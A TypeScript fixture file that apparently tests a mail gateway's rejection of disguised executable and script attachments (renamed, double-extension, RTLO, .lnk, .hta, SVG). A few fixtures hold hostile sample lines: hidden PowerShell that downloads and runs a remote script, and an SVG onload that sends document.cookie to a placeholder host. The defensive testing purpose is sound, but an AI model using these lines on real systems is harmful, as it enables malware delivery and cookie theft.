/**
 * Executable and script content in every disguise: named, by magic, renamed, double extension,
 * bidi and zero-width names, script-bearing HTML/SVG, and inside attached messages.
 * Any mail, business or personal: reject (SOP 4.3, last paragraph).
 */
import { outlookMsg } from '../cfb-files.js';
import { elfExe, isoImage, oneNoteSection, peExe, windowsShortcut } from '../executables.js';
import { messageCase, type FixtureCase } from '../manifest.js';
import { attachedMessage, file, renderMessage } from '../mime.js';
import { external, staff } from '../people.js';
import { CT, businessText, withFiles } from './common.js';

const { alex, priya, daniel, sarah, james, hannah, marcus } = staff;

const script = (s: string) => Buffer.from(s.replace(/\r?\n/g, '\r\n'), 'utf8');

interface ExeCase {
  readonly file: string;
  readonly description: string;
  readonly from: (typeof staff)[keyof typeof staff];
  readonly to: string;
  readonly subject: string;
  readonly body: string;
  readonly filename: string;
  readonly contentType: string;
  readonly data: () => Buffer;
  readonly unscannable?: boolean;
}

const simple = (c: ExeCase): FixtureCase =>
  messageCase({
    file: c.file,
    description: c.description,
    from: c.from.mailbox,
    to: [c.to],
    expect: c.unscannable
      ? { decision: 'reject', rules: ['executable-content', 'unscannable'], marking: null }
      : { decision: 'reject', rules: ['executable-content'], absent: ['malformed'], marking: null },
    message: () => ({
      subject: c.subject,
      body: withFiles(businessText(c.from, c.body), [file(c.data(), { filename: c.filename, contentType: c.contentType })]),
    }),
  });

export const executableCases: FixtureCase[] = [
  simple({
    file: 'executable/pe-exe.eml',
    description: 'A Windows PE executable (MZ, e_lfanew -> PE header) named .exe.',
    from: marcus,
    to: sarah.mailbox,
    subject: 'Remote support tool',
    body: 'Sarah,\n\nRun the attached and read me the ID it shows, then I can fix the projector remotely.',
    filename: 'QuickSupport.exe',
    contentType: 'application/x-msdownload',
    data: () => peExe('QuickSupport'),
  }),
  simple({
    file: 'executable/elf-no-extension.eml',
    description: 'An ELF executable with no file extension, declared as octet-stream: found by magic.',
    from: marcus,
    to: external.supplier.mailbox,
    subject: 'Backup agent build for the CCTV NVR',
    body: 'Hello,\n\nThe agent build for the NVR appliance, as agreed on the call.',
    filename: 'nvr-backup-agent',
    contentType: CT.octet,
    data: elfExe,
  }),
  simple({
    file: 'executable/script-js.eml',
    description: 'A JScript file (.js): executable by name, scripts have no magic.',
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: Remittance 0325',
    body: 'Hannah,\n\nForwarding for the cyber team, this arrived in the CID mailbox.',
    filename: 'Remittance_0325.js',
    contentType: 'application/javascript',
    data: () => script('var sh = new ActiveXObject("WScript.Shell");\nsh.Run("powershell -w hidden -c \\"iwr https://update.example.invalid/r.ps1 | iex\\"", 0, false);\n'),
  }),
  simple({
    file: 'executable/script-vbs.eml',
    description: 'A VBScript file (.vbs).',
    from: marcus,
    to: priya.mailbox,
    subject: 'Printer mapping script',
    body: 'Priya,\n\nDouble-click this to map the new CID printer.',
    filename: 'Map CID printer.vbs',
    contentType: CT.octet,
    data: () => script('Set net = CreateObject("WScript.Network")\nnet.AddWindowsPrinterConnection "\\\\print01\\Lewisham-CID-MFD"\nWScript.Echo "Printer added"\n'),
  }),
  simple({
    file: 'executable/script-ps1.eml',
    description: 'A PowerShell script (.ps1).',
    from: marcus,
    to: daniel.mailbox,
    subject: 'Drive mapping fix',
    body: 'Dan,\n\nRight-click, Run with PowerShell. It remaps the S: drive after the migration.',
    filename: 'Fix-SDrive.ps1',
    contentType: CT.octet,
    data: () => script('$ErrorActionPreference = "Stop"\nRemove-PSDrive -Name S -ErrorAction SilentlyContinue\nNew-PSDrive -Name S -PSProvider FileSystem -Root "\\\\fs03\\SEBCU" -Persist\n'),
  }),
  simple({
    file: 'executable/script-bat.eml',
    description: 'A batch file (.bat).',
    from: james,
    to: daniel.mailbox,
    subject: 'Teams cache fix',
    body: 'Sarge,\n\nThis sorted my Teams out, might help the others on the team.',
    filename: 'clear-teams-cache.bat',
    contentType: CT.octet,
    data: () => script('@echo off\ntaskkill /IM ms-teams.exe /F\nrd /s /q "%LOCALAPPDATA%\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache"\necho Done\n'),
  }),
  simple({
    file: 'executable/script-hta.eml',
    description: 'An HTML application (.hta) running VBScript.',
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: VPN certificate renewal',
    body: 'Hannah,\n\nAnother one for the cyber team please.',
    filename: 'VPN-certificate-renewal.hta',
    contentType: 'application/hta',
    data: () => script('<html><head><HTA:APPLICATION ID="renew" WINDOWSTATE="minimize"/>\n<script language="VBScript">\nCreateObject("WScript.Shell").Run "cmd /c echo renewing", 0\nwindow.close\n</script></head><body></body></html>\n'),
  }),
  simple({
    file: 'executable/shortcut-lnk.eml',
    description: 'A Windows shortcut (.lnk) that starts hidden PowerShell: found by magic and by name.',
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: Payslip March',
    body: 'Hannah,\n\nHR say they did not send this one.',
    filename: 'Payslip March.lnk',
    contentType: CT.octet,
    data: () => windowsShortcut('-w hidden -ep bypass -c "iwr https://payroll.example.invalid/p | iex"'),
  }),
  simple({
    file: 'executable/disk-image-iso.eml',
    description: 'An ISO 9660 image (CD001 at 0x8001): executable by name (Level-1 list) and a format we cannot open.',
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: Invoice 0325',
    body: 'Hannah,\n\nAnd another one, a disk image this time.',
    filename: 'Invoice_0325.iso',
    contentType: 'application/x-iso9660-image',
    data: () => isoImage('invoice_0325'),
    unscannable: true,
  }),
  simple({
    file: 'executable/onenote-one.eml',
    description: 'A OneNote section (.one), the 2023 phishing favourite: executable by name.',
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: Remittance advice',
    body: 'Hannah,\n\nOneNote attachment from an unknown sender, for the cyber team.',
    filename: 'Remittance advice.one',
    contentType: 'application/onenote',
    data: () => oneNoteSection('remittance.one'),
  }),
  simple({
    file: 'executable/html-with-script.eml',
    description: 'An HTML attachment carrying <script>: executable content.',
    from: marcus,
    to: external.venue.mailbox,
    subject: 'Booking form',
    body: 'Hello,\n\nOur booking form is attached; it fills in the dates automatically.',
    filename: 'booking-form.html',
    contentType: CT.html,
    data: () => script('<!DOCTYPE html>\n<html><head><title>Booking</title><script>\nwindow.onload = function () { document.forms[0].date.value = new Date().toISOString().slice(0, 10); };\n</script></head><body><form><input name="date"></form></body></html>\n'),
  }),
  simple({
    file: 'executable/svg-onload.eml',
    description: 'An SVG image with an onload= handler: script-bearing, so executable content.',
    from: james,
    to: daniel.mailbox,
    subject: 'Beat map',
    body: 'Sarge,\n\nThe beat map for the new sector.',
    filename: 'beat-map.svg',
    contentType: CT.svg,
    data: () => script('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="fetch(\'https://maps.example.invalid/t?u=\'+document.cookie)"><rect width="200" height="100" fill="#cde"/></svg>\n'),
  }),
  simple({
    file: 'executable/exe-renamed-pdf.eml',
    description: 'A PE executable named invoice.pdf and declared application/pdf: the true type decides.',
    from: alex,
    to: external.consultant.mailbox,
    subject: 'Invoice query',
    body: 'Kieran,\n\nIs this your invoice? It would not open for me.',
    filename: 'invoice.pdf',
    contentType: CT.pdf,
    data: () => peExe('Invoice Viewer'),
  }),
  simple({
    file: 'executable/double-extension.eml',
    description: 'report.docx.exe: a double extension hiding an executable.',
    from: priya,
    to: alex.mailbox,
    subject: 'Report for Monday',
    body: 'Alex,\n\nThis came from the victim\'s laptop export, please check before opening.',
    filename: 'report.docx.exe',
    contentType: CT.octet,
    data: () => peExe('Report'),
  }),
  simple({
    file: 'executable/rtlo-name.eml',
    description: "RTLO name 'annexe\\u202Excod.exe' (shows as annexeexe.docx), RFC 2231 encoded: stripped, recorded, still an .exe.",
    from: alex,
    to: hannah.mailbox,
    subject: 'FW: Annexe to contract',
    body: 'Hannah,\n\nThe file name looks wrong on this one.',
    filename: 'annexe\u202excod.exe',
    contentType: CT.octet,
    data: () => peExe('Annexe'),
  }),
  simple({
    file: 'executable/zero-width-name.eml',
    description: "A JScript file named 'update.j\\u200Bs': the zero-width space hides the .js extension until stripped.",
    from: marcus,
    to: james.mailbox,
    subject: 'Browser update',
    body: 'James,\n\nRun this to update the browser on the front counter PC.',
    filename: 'update.j\u200bs',
    contentType: CT.octet,
    data: () => script('var fso = new ActiveXObject("Scripting.FileSystemObject");\nWScript.Echo(fso.GetTempName());\n'),
  }),
  messageCase({
    file: 'executable/exe-in-attached-message.eml',
    description: 'An executable inside an attached message (message/rfc822): attached messages are inspected like the outer one.',
    from: alex.mailbox,
    to: [hannah.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], absent: ['malformed'], marking: null },
    message: () => {
      const inner = renderMessage(
        {
          from: external.consultant.mailbox,
          to: [alex.mailbox],
          subject: 'Scanner driver',
          date: new Date(Date.UTC(2025, 2, 2, 18, 4, 11)),
          plainClient: true,
          body: withFiles('Hi Alex,\n\nThe driver for the document scanner is attached.\n\nKieran', [file(peExe('Scanner Driver'), { filename: 'scanner-driver.exe', contentType: 'application/x-msdownload' })]),
        },
        'executable/exe-in-attached-message.eml#inner',
      );
      return {
        subject: 'FW: Scanner driver',
        body: withFiles(businessText(alex, 'Hannah,\n\nCan you check the attached email before I install anything from it?'), [attachedMessage(inner, 'Scanner driver.eml')]),
      };
    },
  }),
  messageCase({
    file: 'executable/exe-in-outlook-msg.eml',
    description: 'An executable inside an attached Outlook .msg (CFB with __substg1.0_ streams).',
    from: priya.mailbox,
    to: [alex.mailbox],
    expect: { decision: 'reject', rules: ['executable-content'], marking: null },
    message: () => ({
      subject: 'FW: Statement photos',
      body: withFiles(businessText(priya, 'Alex,\n\nThe witness forwarded this as an Outlook item. There is a program inside rather than photos.'), [
        file(
          outlookMsg({
            subject: 'Photos for the statement',
            body: 'Here are the photos you asked for.',
            senderName: 'Kevin Osei',
            senderEmail: 'kevin.osei1979@gmail.com',
            attachments: [{ fileName: 'photos.scr', data: peExe('Photo Viewer'), mimeType: 'application/octet-stream' }],
          }),
          { filename: 'Photos for the statement.msg', contentType: CT.msg },
        ),
      ]),
    }),
  }),
];
